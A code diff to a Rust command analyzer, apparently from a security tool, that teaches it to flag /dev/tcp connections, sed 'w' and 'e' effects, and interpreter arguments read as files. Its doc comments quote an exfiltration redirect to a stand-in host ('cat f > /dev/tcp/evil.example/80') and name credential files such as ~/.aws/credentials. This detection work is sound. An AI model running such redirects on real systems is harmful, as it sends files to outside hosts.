@@ -396,7 +396,9 @@ impl Analyzer {
     }
 
     fn add_path(&mut self, path: &str, access: Access) {
-        let path = match self.known_path(path) {
+        let known = self.known_path(path);
+        self.dev_tcp(known.as_deref().unwrap_or(plain(path)));
+        let path = match known {
             Some(p) => {
                 if matches!(access, Access::Write | Access::Delete) && !self.metadata_only {
                     let key = normalize_path(&p).unwrap_or_else(|| p.clone());
@@ -540,22 +542,38 @@ impl Analyzer {
         self.cwd = Some(target.unwrap_or_default());
     }
 
+    /// Bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`, named in a redirection, as a
+    /// connection to HOST (`cat f > /dev/tcp/evil.example/80`, `exec 3<>/dev/tcp/…`): a network
+    /// destination like a URL. Named anywhere else it is a path that does not exist (Linux has
+    /// no such files), so taking every such name for a connection costs nothing.
+    fn dev_tcp(&mut self, path: &str) {
+        let Some(rest) = path.strip_prefix("/dev/tcp/").or_else(|| path.strip_prefix("/dev/udp/")) else {
+            return;
+        };
+        match rest.split('/').next() {
+            Some(host) if self.add_host(host) => {}
+            _ => self.add_unknown_host(),
+        }
+    }
+
     fn add_unknown_host(&mut self) {
         if !self.out.hosts.iter().any(|h| h == UNKNOWN_HOST) {
             self.out.hosts.push(UNKNOWN_HOST.to_owned());
         }
     }
 
-    fn add_host(&mut self, host: &str) {
+    /// Adds `host` as a destination; false (nothing added) when it is no host name or address.
+    fn add_host(&mut self, host: &str) -> bool {
         let host = host.trim_end_matches('.').to_ascii_lowercase();
         if host.is_empty()
             || !host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '_'))
         {
-            return;
+            return false;
         }
         if !self.out.hosts.contains(&host) {
             self.out.hosts.push(host);
         }
+        true
     }
 
     /// A URL or a bare `host[:port][/path]` argument of a network client.
@@ -1297,6 +1315,40 @@ impl Analyzer {
         self.out.commands.len().saturating_sub(1)
     }
 
+    /// A sed script's own effects (`tables::sed_script_effects`): files its `w` commands
+    /// write, commands its `e` command runs (analyzed as shell), and `s///e`, which runs text
+    /// only known at run time.
+    fn sed_script(&mut self, args: &[String], wrappers: &[String], depth: usize) {
+        let spec = tables::OptSpec {
+            short_values: "efl",
+            long_values: &["--expression", "--file", "--line-length"],
+        };
+        let parsed = tables::parse_options(args, spec, false);
+        let mut scripts: Vec<String> = parsed.values(&["-e", "--expression"]).map(str::to_owned).collect();
+        if scripts.is_empty() && !parsed.has(&["-f", "--file"]) {
+            scripts.extend(parsed.operands.first().cloned());
+        }
+        for script in scripts {
+            if is_unknown(&script) {
+                continue;
+            }
+            let (writes, runs) = tables::sed_script_effects(plain(&script));
+            for file in writes {
+                self.add_path(&file, Access::Write);
+            }
+            for command in runs {
+                match command {
+                    Some(command) => {
+                        let mut inner = wrappers.to_vec();
+                        inner.push("sed e".to_owned());
+                        let _ = self.script(&command, &inner, depth + 1);
+                    }
+                    None => self.out.dynamic = true,
+                }
+            }
+        }
+    }
+
     fn mark(&mut self, index: usize, downloaded: bool, inline: bool) {
         if let Some(c) = self.out.commands.get_mut(index) {
             c.runs_downloaded_code |= downloaded;
@@ -1594,6 +1646,9 @@ impl Analyzer {
         // A recursive command touches everything under a directory it names: `DIR/**` is
         // reported beside `DIR`, so rules about files inside it (`~/.ssh/id_*`, Ward's spool)
         // see it. `mv` always moves the whole tree.
+        if matches!(program.as_str(), "sed" | "gsed") {
+            self.sed_script(args, &wrappers, depth);
+        }
         let recursive = tables::is_recursive(&program, args);
         let moves = program == "mv" || (program == "git" && plain_subcommand(args) == Some("mv"));
         self.metadata_only =
@@ -1864,8 +1919,12 @@ impl Analyzer {
             for f in &inv.in_place_files {
                 self.add_path(f, Access::Write);
             }
+            self.code_operands(&inv.operands, true);
             return Stream::Opaque;
         }
+        // `python3 -m base64 FILE`: the module's arguments; `python3 tool.py FILE`: the
+        // script's, which it may read.
+        self.code_operands(&inv.operands, inv.module);
         match inv.script_file {
             Some(file) if file != "-" => {
                 self.add_path(&file, Access::Execute);
@@ -1897,6 +1956,22 @@ impl Analyzer {
             _ => {}
         }
         Stream::Opaque
+    }
+
+    /// The arguments interpreter code or a module gets: code may open each one, read it (a
+    /// directory: anything in it) and, for code Ward reads (`changes`), write it too. A script's
+    /// arguments are read (`python3 tool.py ~/.aws/credentials`).
+    fn code_operands(&mut self, operands: &[String], changes: bool) {
+        for operand in operands.iter().filter(|o| !plain(o).starts_with('-') && !plain(o).is_empty()) {
+            if plain(operand).contains("://") {
+                continue;
+            }
+            self.add_path(operand, Access::Read);
+            if changes {
+                self.add_path(operand, Access::Write);
+                self.add_path(&subtree(operand), Access::Read);
+            }
+        }
     }
 
     /// Interpreter code given literally (`-c`/`-e`, a here-document, a script this line
